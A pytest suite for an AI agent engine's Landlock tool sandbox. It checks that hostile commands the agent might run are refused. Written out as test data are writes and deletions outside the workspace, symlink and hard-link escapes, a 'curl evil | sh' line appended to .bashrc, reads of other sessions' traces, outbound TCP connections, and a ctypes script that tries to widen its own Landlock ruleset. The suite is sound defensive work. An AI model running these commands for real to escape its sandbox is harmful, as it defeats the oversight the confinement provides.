"""The tool sandbox (SPEC §25): a hostile-command suite run against the kernel's Landlock rules.

Every attempt to leave the allowed set must be refused by the kernel — the command's own error
and exit code come back as an ordinary failed tool result (R-BOX-4) — while work inside the
workspace goes on.  ``read-only`` and ``off`` behave as documented (R-BOX-1, R-BOX-3), and a
kernel that cannot enforce a mode stops the session from starting (R-BOX-2).
"""

from __future__ import annotations

import json
import os
import socket
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import anyio
import anyio.to_thread
import pytest

from engine import LocalEnvironment, Session, ToolContext, allow_all
from engine._exceptions import SandboxUnavailable
from engine._sandbox import SandboxPolicy, landlock_abi
from engine._signal import AbortSignal
from engine.llm import ScriptedEnvironment, ScriptedLLM
from eventstore import DataRoot, OmniMessage, ToolCallOutputPayload
from eventstore import builders as b

pytestmark = pytest.mark.anyio

needs_landlock = pytest.mark.skipif(
    landlock_abi() < 4, reason="the kernel offers no Landlock with file-system and TCP rules"
)
PY = sys.executable


@dataclass
class Box:
    """A workspace, a place outside it, and a data root holding another session's trace."""

    ws: Path
    outside: Path
    victim: Path
    home: Path
    other_trace: Path
    own_trace: Path
    scratchpad: Path

    def env(self, **options: Any) -> LocalEnvironment:
        env = LocalEnvironment(self.ws, **options)
        env.bind_scratchpad(self.scratchpad)
        env.bind_session(data_root=self.home, own_files=lambda: [self.own_trace])
        return env


@pytest.fixture
def box(tmp_path: Path) -> Box:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "notes.txt").write_text("workspace file\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    victim = outside / "victim.txt"
    victim.write_text("precious\n")
    home = tmp_path / "data"
    traces = home / "proj" / "agents" / "ag" / "traces" / "2026-01-01"
    traces.mkdir(parents=True)
    other = traces / "session-other_001.jsonl"
    other.write_text('{"secret": "other session"}\n')
    own = traces / "session-own_001.jsonl"
    own.write_text('{"mine": true}\n')
    pad = home / "proj" / "agents" / "ag" / "scratchpad" / "session-own"
    pad.mkdir(parents=True)
    return Box(ws.resolve(), outside.resolve(), victim.resolve(), home, other, own, pad)


async def run(env: LocalEnvironment, name: str, **arguments: Any) -> tuple[str, str]:
    """The complete output and stop reason of one call."""
    call = b.tool_call(name, arguments, "call_1")
    with anyio.fail_after(30):
        msgs = [m async for m in env.execute(call, signal=AbortSignal(), approve=None)]
    last = msgs[-1].payload
    assert isinstance(last, ToolCallOutputPayload)
    assert last.stop_reason is not None
    return last.output, last.stop_reason


async def sh(env: LocalEnvironment, cmd: str, **extra: Any) -> tuple[str, str]:
    return await run(env, "exec_command", cmd=cmd, **extra)


def refused(result: tuple[str, str]) -> None:
    """R-BOX-4: the command's own error and a non-zero exit code, as a failed tool result."""
    output, status = result
    assert status == "failed", output
    assert "[exit code: " in output and "[exit code: 0]" not in output, output
    # EACCES, EPERM, or EXDEV where a link or rename would carry a file across the boundary.
    denials = ("Permission denied", "Operation not permitted", "Invalid cross-device link")
    assert any(d in output for d in denials), output


# ---------------------------------------------------------------------------- workspace-write


@needs_landlock
async def test_writes_outside_are_refused_and_the_workspace_stays_writable(box: Box) -> None:
    """R-BOX-1: only the workspace (and scratchpad, private temp) is writable."""
    env = box.env()
    refused(await sh(env, f"echo x > {box.outside}/new.txt"))
    refused(await sh(env, f"echo x >> {box.victim}"))
    refused(await sh(env, "echo x > /tmp/penguin-sandbox-escape.txt"))
    assert not (box.outside / "new.txt").exists()
    assert not Path("/tmp/penguin-sandbox-escape.txt").exists()
    assert box.victim.read_text() == "precious\n"
    output, status = await sh(env, "mkdir -p src/a && echo ok > src/a/f && cat src/a/f notes.txt")
    assert (output, status) == ("ok\nworkspace file\n\n[exit code: 0]", "completed")
    await env.aclose()


@needs_landlock
async def test_dot_dot_and_proc_self_root_are_refused(box: Box) -> None:
    env = box.env()
    refused(await sh(env, "echo x > ../outside/dots.txt"))
    refused(await sh(env, f"echo x > /proc/self/root{box.outside}/proc.txt"))
    refused(await sh(env, "cd .. && echo x > outside/cwd.txt"))
    assert list(box.outside.iterdir()) == [box.victim]
    await env.aclose()


@needs_landlock
async def test_symlinks_do_not_lead_out(box: Box) -> None:
    """A link made in the workspace, or one already there, points the kernel at the target."""
    (box.ws / "old-link").symlink_to(box.outside)
    env = box.env()
    refused(await sh(env, f"ln -s {box.outside} link && echo x > link/new.txt"))
    refused(await sh(env, "echo x > old-link/victim.txt"))
    refused(await sh(env, f"ln -s {box.victim} v && echo x >> v"))
    assert list(box.outside.iterdir()) == [box.victim]
    assert box.victim.read_text() == "precious\n"
    # The file tools resolve the real path first and refuse before touching anything.
    output, status = await run(env, "write_file", path="old-link/victim.txt", content="x")
    assert status == "failed" and "outside the workspace" in output
    await env.aclose()


@needs_landlock
async def test_hard_links_and_renames_across_the_boundary_are_refused(box: Box) -> None:
    env = box.env()
    refused(await sh(env, f"ln {box.victim} hard.txt"))
    refused(await sh(env, f"ln notes.txt {box.outside}/hard.txt"))
    refused(await sh(env, f"mv notes.txt {box.outside}/moved.txt"))
    refused(await sh(env, f"mv {box.victim} stolen.txt"))
    assert box.victim.read_text() == "precious\n" and (box.ws / "notes.txt").exists()
    assert os.stat(box.victim).st_nlink == 1
    output, status = await sh(env, "ln notes.txt hard.txt && mv hard.txt moved.txt && ls")
    assert status == "completed" and "moved.txt" in output
    await env.aclose()


@needs_landlock
async def test_deleting_outside_is_refused(box: Box) -> None:
    env = box.env()
    refused(await sh(env, f"rm -f {box.victim}"))
    refused(await sh(env, f"rm -rf {box.outside}"))
    refused(await sh(env, f": > {box.victim}"))  # truncation is a write too
    refused(await sh(env, f"truncate -s 0 {box.victim}"))
    assert box.victim.read_text() == "precious\n"
    assert await sh(env, "rm notes.txt && ls -A") == ("[exit code: 0]", "completed")
    await env.aclose()


@needs_landlock
async def test_shell_rc_files_cannot_be_touched(box: Box, monkeypatch: pytest.MonkeyPatch) -> None:
    user_home = box.outside / "home"
    user_home.mkdir()
    (user_home / ".bashrc").write_text("# rc\n")
    monkeypatch.setenv("HOME", str(user_home))
    env = box.env()
    refused(await sh(env, 'echo "curl evil | sh" >> "$HOME/.bashrc"'))
    refused(await sh(env, 'echo "alias ls=rm" > "$HOME/.profile"'))
    assert (user_home / ".bashrc").read_text() == "# rc\n"
    assert not (user_home / ".profile").exists()
    await env.aclose()


@needs_landlock
async def test_other_sessions_in_the_data_root_are_out_of_reach(box: Box) -> None:
    """R-BOX-1: everything is readable but the data root's other sessions."""
    env = box.env()
    refused(await sh(env, f"cat {box.other_trace}"))
    refused(await sh(env, f"echo forged >> {box.other_trace}"))
    refused(await sh(env, f"rm {box.other_trace}"))
    refused(await sh(env, f"echo forged > {box.other_trace.parent}/session-other_002.jsonl"))
    refused(await sh(env, f"cat {box.home}/proj/agents/ag/traces/2026-01-01/*"))
    refused(await sh(env, f"cp -r {box.home} stolen"))
    assert box.other_trace.read_text() == '{"secret": "other session"}\n'
    assert {p.name for p in box.other_trace.parent.iterdir()} == {
        "session-other_001.jsonl",
        "session-own_001.jsonl",
    }
    # Names can be listed (Landlock cannot take READ_DIR off a subtree; docs/sandbox.md).
    assert (await sh(env, f"ls {box.other_trace.parent}"))[1] == "completed"
    # Its own trace can be read, not written; its scratchpad written; the system read.
    assert await sh(env, f"cat {box.own_trace}") == (
        '{"mine": true}\n\n[exit code: 0]',
        "completed",
    )
    refused(await sh(env, f"echo x >> {box.own_trace}"))
    output, status = await sh(env, f"echo plan > {box.scratchpad}/PLAN.md && head -c5 /etc/passwd")
    assert (output, status) == ("root:\n[exit code: 0]", "completed")
    assert (box.scratchpad / "PLAN.md").read_text() == "plan\n"
    await env.aclose()


@needs_landlock
async def test_a_data_root_inside_the_workspace_stays_hidden(tmp_path: Path) -> None:
    """Landlock cannot subtract a subtree: the workspace is granted around the data root."""
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    home = ws / ".data"
    other = home / "p" / "agents" / "a" / "traces" / "d" / "session-x_001.jsonl"
    other.parent.mkdir(parents=True)
    other.write_text("secret\n")
    env = LocalEnvironment(ws)
    env.bind_session(data_root=home, own_files=list)
    refused(await sh(env, f"cat {other}"))
    refused(await sh(env, f"echo x >> {other}"))
    output, status = await sh(env, "echo ok > src/f && cat src/f && ls -A")
    assert status == "completed" and output.startswith("ok\n.data\nsrc\n"), output
    await env.aclose()


# ---------------------------------------------------------------------------- the network


@pytest.fixture
def listener() -> Iterator[int]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(4)
    yield server.getsockname()[1]
    server.close()


CONNECT = "import socket,sys; socket.create_connection(('127.0.0.1', int(sys.argv[1])), 5); print('connected')"
BIND = "import socket; s=socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); print('bound')"


@needs_landlock
async def test_network_off_refuses_tcp_connect_and_bind(box: Box, listener: int) -> None:
    """R-BOX-1: network off unless network = true — loopback included."""
    env = box.env()
    output, status = await sh(env, f'{PY} -c "{CONNECT}" {listener}')
    assert status == "failed" and "PermissionError" in output and "connected" not in output
    output, status = await sh(env, f'{PY} -c "{BIND}"')
    assert status == "failed" and "PermissionError" in output and "bound" not in output
    await env.aclose()
    on = box.env(network=True)
    assert (await sh(on, f'{PY} -c "{CONNECT}" {listener}'))[1] == "completed"
    assert (await sh(on, f'{PY} -c "{BIND}"'))[1] == "completed"
    refused(await sh(on, f"echo x > {box.outside}/net.txt"))  # files stay confined
    await on.aclose()


# ---------------------------------------------------------------------------- escapes and limits


LIFT = """
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
# A process in a sandbox tries to widen it: a new ruleset granting everything under /.
class Attr(ctypes.Structure):
    _fields_ = [("fs", ctypes.c_uint64), ("net", ctypes.c_uint64), ("scoped", ctypes.c_uint64)]
class Beneath(ctypes.Structure):
    _pack_ = 1
    _fields_ = [("access", ctypes.c_uint64), ("fd", ctypes.c_int32)]
attr = Attr((1 << 16) - 1, 3, 0)
rs = libc.syscall(444, ctypes.byref(attr), ctypes.sizeof(attr), 0)
root = os.open("/", os.O_PATH)
rule = Beneath((1 << 16) - 1, root)
print("add", libc.syscall(445, rs, 1, ctypes.byref(rule), 0))
print("prctl", libc.prctl(38, 1, 0, 0, 0))
print("restrict", libc.syscall(446, rs, 0))
open(sys.argv[1], "w").write("escaped")
"""


@needs_landlock
async def test_a_command_cannot_lift_its_own_rules(box: Box) -> None:
    """Landlock layers only narrow: a new, wider ruleset changes nothing."""
    (box.ws / "lift.py").write_text(LIFT)
    env = box.env()
    target = box.outside / "lifted.txt"
    output, status = await sh(env, f"{PY} lift.py {target}")
    assert status == "failed" and "PermissionError" in output, output
    assert "restrict 0" in output  # the kernel took the new layer, and it did not help
    assert not target.exists()
    # Nor can it signal the engine that runs it (Landlock's signal scope).
    refused(await sh(env, f"kill -0 {os.getpid()}"))
    await env.aclose()


@needs_landlock
async def test_a_runaway_command_is_ended_by_the_tool_timeout(box: Box) -> None:
    env = box.env()
    output, status = await sh(env, "echo started; while :; do :; done", timeout_ms=400)
    assert status == "failed"
    assert output == "started\n\n[tool timeout: exceeded 400ms]"
    # The next command runs normally.
    assert (await sh(env, "echo again"))[1] == "completed"
    await env.aclose()


@needs_landlock
async def test_the_private_temporary_directory_is_per_session(box: Box) -> None:
    """R-BOX-1: a private temp, not all of /tmp; another session cannot read it; removed at
    close."""
    one, two = box.env(), box.env()
    output, status = await sh(one, 'echo secret > "$TMPDIR/t" && echo "$TMPDIR"')
    assert status == "completed"
    tmpdir = Path(output.split("\n")[0])
    assert tmpdir.parent == box.home / ".sandbox-tmp" and (tmpdir / "t").read_text() == "secret\n"
    refused(await sh(two, f"cat {tmpdir}/t"))
    refused(await sh(two, f"echo x > {tmpdir}/u"))
    refused(await sh(one, "echo x > /tmp/shared-by-all.txt"))
    await one.aclose()
    assert not tmpdir.exists()
    await two.aclose()


@needs_landlock
async def test_file_tool_io_runs_under_the_kernel_rules_too(box: Box) -> None:
    """The path check is not the only guard: the file tools' I/O runs in a confined thread,
    so a path that changed after the check (a swapped-in symlink) is still refused."""
    env = box.env()
    ctx = ToolContext(
        workspace=box.ws,
        signal=AbortSignal(),
        tool_call_id="c",
        confinement=env.confinement(),
    )
    target = box.outside / "raced.txt"
    with pytest.raises(PermissionError):
        await anyio.to_thread.run_sync(ctx.run_confined, lambda: target.write_text("x"))
    assert not target.exists()
    assert await anyio.to_thread.run_sync(ctx.run_confined, (box.ws / "notes.txt").read_text)
    # The engine's own thread is not confined by any of this.
    (box.outside / "engine.txt").write_text("fine")
    await env.aclose()


# ---------------------------------------------------------------------------- read-only and off


@needs_landlock
async def test_read_only_writes_nothing_but_its_temporary_directory(box: Box) -> None:
    env = box.env(sandbox="read-only")
    refused(await sh(env, "echo x > new.txt"))
    refused(await sh(env, "rm notes.txt"))
    refused(await sh(env, f"echo x > {box.scratchpad}/f"))
    assert await sh(env, 'cat notes.txt && echo t > "$TMPDIR/t" && cat "$TMPDIR/t"') == (
        "workspace file\nt\n\n[exit code: 0]",
        "completed",
    )
    output, status = await run(env, "write_file", path="new.txt", content="x")
    assert (output, status) == (
        "[tool error] the sandbox (read-only) does not allow writing new.txt",
        "failed",
    )
    output, status = await run(env, "edit_file", path="notes.txt", old="workspace", new="x")
    assert status == "failed" and "read-only" in output
    assert (await run(env, "read_file", path="notes.txt")) == ("workspace file\n", "completed")
    assert sorted(p.name for p in box.ws.iterdir()) == ["notes.txt"]
    await env.aclose()


async def test_off_is_unconfined(box: Box, listener: int) -> None:
    """R-BOX-3: ``off`` is chosen explicitly; commands then run as the engine's user would."""
    env = box.env(sandbox="off")
    assert env.sandbox == SandboxPolicy(mode="off", network=True)
    assert env.confinement() is None
    assert (await sh(env, f"echo x > {box.outside}/off.txt"))[1] == "completed"
    assert (await sh(env, f'{PY} -c "{CONNECT}" {listener}'))[1] == "completed"
    assert (box.outside / "off.txt").read_text() == "x\n"
    await env.aclose()


@needs_landlock
async def test_off_with_the_network_off_confines_only_tcp(box: Box, listener: int) -> None:
    env = box.env(sandbox="off", network=False)
    assert (await sh(env, f"echo x > {box.outside}/off.txt"))[1] == "completed"
    output, status = await sh(env, f'{PY} -c "{CONNECT}" {listener}')
    assert status == "failed" and "PermissionError" in output
    await env.aclose()


# ---------------------------------------------------------------------------- sessions


async def test_defaults_and_validation() -> None:
    """R-BOX-3: workspace-write with the network off; off turns the network on unless told."""
    assert SandboxPolicy.of() == SandboxPolicy(mode="workspace-write", network=False)
    assert SandboxPolicy.of("read-only").network is False
    assert SandboxPolicy.of("off") == SandboxPolicy(mode="off", network=True)
    assert SandboxPolicy.of("off", False).confined
    with pytest.raises(ValueError, match="unknown sandbox mode 'none'"):
        SandboxPolicy.of("none")


async def test_a_kernel_without_landlock_stops_the_session_from_starting(
    box: Box, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """R-BOX-2: never silently unconfined; ``off`` chosen explicitly still starts."""
    monkeypatch.setattr("engine._sandbox.landlock_abi", lambda: 0)
    root = DataRoot(tmp_path / "root")
    with pytest.raises(SandboxUnavailable) as raised:
        await Session.create(
            llm=ScriptedLLM([]), environment=LocalEnvironment(box.ws), root=root, workspace=box.ws
        )
    assert str(raised.value) == (
        "sandbox 'workspace-write' needs Linux Landlock ABI 3 or later; this kernel offers no "
        "Landlock: choose sandbox 'off' explicitly to run tools unconfined"
    )
    session = await Session.create(
        llm=ScriptedLLM([]),
        environment=LocalEnvironment(box.ws),
        root=root,
        workspace=box.ws,
        sandbox="off",
    )
    assert session.sandbox == SandboxPolicy(mode="off", network=True)
    # A tool of an environment that somehow kept its sandbox fails rather than runs unconfined.
    env = box.env()
    output, status = await sh(env, f"echo x > {box.outside}/x")
    assert status == "failed" and "needs Linux Landlock" in output
    assert not (box.outside / "x").exists()
    monkeypatch.setattr("engine._sandbox.landlock_abi", lambda: 3)
    with pytest.raises(SandboxUnavailable, match="network off needs Linux Landlock ABI 4"):
        await Session.create(
            llm=ScriptedLLM([]), environment=LocalEnvironment(box.ws), root=root, workspace=box.ws
        )


async def test_an_environment_without_a_sandbox_cannot_be_asked_for_one(
    box: Box, tmp_path: Path
) -> None:
    class Plain:
        async def list_tools(self) -> list[Any]:
            return []

        def execute(self, call: OmniMessage, *, signal: AbortSignal, approve: Any) -> Any:
            raise AssertionError("not called")

        def tool_permission(self, name: str) -> None:
            return None

        async def aclose(self) -> None:
            pass

    root = DataRoot(tmp_path / "root")
    with pytest.raises(SandboxUnavailable, match="Plain does not run its tools under a sandbox"):
        await Session.create(
            llm=ScriptedLLM([]),
            environment=Plain(),
            root=root,
            workspace=box.ws,
            sandbox="read-only",
        )
    session = await Session.create(
        llm=ScriptedLLM([]), environment=Plain(), root=root, workspace=box.ws
    )
    assert session.sandbox is None


@needs_landlock
async def test_a_session_confines_the_commands_its_model_runs(box: Box, tmp_path: Path) -> None:
    """End to end: the session binds its data root, the default sandbox refuses the escape as a
    tool result, and the model's next request sees it."""
    root = DataRoot(tmp_path / "root")
    other = root.home / "p" / "agents" / "a" / "traces" / "2026-01-01" / "session-x_001.jsonl"
    other.parent.mkdir(parents=True)
    other.write_text("secret\n")
    script = [
        [{"tool_call": {"name": "exec_command", "arguments": {"cmd": f"echo x > {box.victim}"}}}],
        [{"tool_call": {"name": "exec_command", "arguments": {"cmd": f"cat {other}"}}}],
        [{"text": "done"}],
    ]
    llm = ScriptedLLM(script)
    async with await Session.create(
        llm=llm, environment=LocalEnvironment(box.ws), root=root, workspace=box.ws
    ) as session:
        assert session.sandbox == SandboxPolicy(mode="workspace-write", network=False)
        outputs = [
            m.payload
            async for m in session.run([b.user_text("go")], approve=allow_all)
            if isinstance(m.payload, ToolCallOutputPayload)
        ]
    assert [o.stop_reason for o in outputs] == ["failed", "failed"]
    assert "Permission denied" in outputs[0].output and "[exit code: 2]" in outputs[0].output
    assert "Permission denied" in outputs[1].output
    assert box.victim.read_text() == "precious\n"
    assert json.dumps(llm.requests[-1].messages[-1].payload.output)  # type: ignore[union-attr]


async def test_a_scripted_environment_takes_any_sandbox(box: Box, tmp_path: Path) -> None:
    """It runs no process: every mode is accepted and recorded as asked."""
    env = ScriptedEnvironment([])
    session = await Session.create(
        llm=ScriptedLLM([]),
        environment=env,
        root=DataRoot(tmp_path / "r"),
        workspace=box.ws,
        sandbox="read-only",
    )
    assert session.sandbox == SandboxPolicy(mode="read-only", network=False)


@needs_landlock
async def test_a_subagent_inherits_its_parents_sandbox(box: Box, tmp_path: Path) -> None:
    """A read-only parent cannot widen its sandbox by delegating: the child is read-only too."""
    from engine import SessionSubagentRunner

    root = DataRoot(tmp_path / "root")
    children: list[Session] = []
    child_script = [
        [{"tool_call": {"name": "exec_command", "arguments": {"cmd": "echo x > by-child.txt"}}}],
        [{"text": "tried"}],
    ]
    runner = SessionSubagentRunner(
        lambda: ScriptedLLM(child_script),
        root=root,
        workspace=box.ws,
        on_child=children.append,
    )
    parent_script = [
        [{"tool_call": {"name": "run_subagent", "arguments": {"prompt": "write"}}}],
        [{"text": "done"}],
    ]
    session = await Session.create(
        llm=ScriptedLLM(parent_script),
        environment=LocalEnvironment(box.ws, subagents=runner, sandbox="read-only"),
        root=root,
        workspace=box.ws,
    )
    async with runner, session:
        async for _ in session.run([b.user_text("go")], approve=allow_all):
            pass
    assert [c.sandbox for c in children] == [SandboxPolicy(mode="read-only", network=False)]
    assert not (box.ws / "by-child.txt").exists()


async def test_resume_takes_a_sandbox_and_releases_the_lock_when_it_cannot(
    box: Box, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """R-BOX-2 on resume: refused before anything runs, and the session stays resumable.  The
    recorded mode (R-SET-3: here the default, workspace-write) is what a resume asks for."""
    from replay import resume_session

    root = DataRoot(tmp_path / "root")
    async with await Session.create(
        llm=ScriptedLLM([[{"text": "hi"}]]),
        environment=LocalEnvironment(box.ws),
        root=root,
        workspace=box.ws,
    ) as session:
        async for _ in session.run([b.user_text("go")]):
            pass
    monkeypatch.setattr("engine._sandbox.landlock_abi", lambda: 0)
    with pytest.raises(SandboxUnavailable):
        await resume_session(
            root, session.id, llm=ScriptedLLM([]), environment=LocalEnvironment(box.ws)
        )
    # The recorded network setting (off) stands unless it is overridden too.
    resumed = await resume_session(
        root,
        session.id,
        llm=ScriptedLLM([]),
        environment=LocalEnvironment(box.ws),
        sandbox="off",
        network=True,
    )
    async with resumed:
        assert resumed.sandbox == SandboxPolicy(mode="off", network=True)


async def test_r_set_3_resume_keeps_a_recorded_sandbox_off(box: Box, tmp_path: Path) -> None:
    """R-SET-3 with R-BOX-4: a session recorded with ``sandbox="off"`` resumes unconfined without
    being told again (before the settings record it came back confined)."""
    from replay import resume_session

    root = DataRoot(tmp_path / "root")
    async with await Session.create(
        llm=ScriptedLLM([[{"text": "hi"}]]),
        environment=LocalEnvironment(box.ws),
        root=root,
        workspace=box.ws,
        sandbox="off",
    ) as session:
        async for _ in session.run([b.user_text("go")]):
            pass
    resumed = await resume_session(
        root, session.id, llm=ScriptedLLM([]), environment=LocalEnvironment(box.ws)
    )
    async with resumed:
        assert resumed.sandbox == SandboxPolicy(mode="off", network=True)


@needs_landlock
async def test_a_data_root_inside_the_workspace_is_explained_to_the_file_tools(
    tmp_path: Path,
) -> None:
    """Landlock cannot grant the workspace's top directory new entries without granting them in
    the data root below it: the file tools say so instead of a bare refusal."""
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    env = LocalEnvironment(ws)
    env.bind_session(data_root=ws / ".data", own_files=list)
    (ws / ".data").mkdir()
    output, status = await run(env, "write_file", path="new.txt", content="x")
    assert status == "failed" and "lies inside the workspace" in output, output
    assert await run(env, "write_file", path="src/new.txt", content="x") == (
        "wrote 1 bytes to src/new.txt",
        "completed",
    )
    await env.aclose()
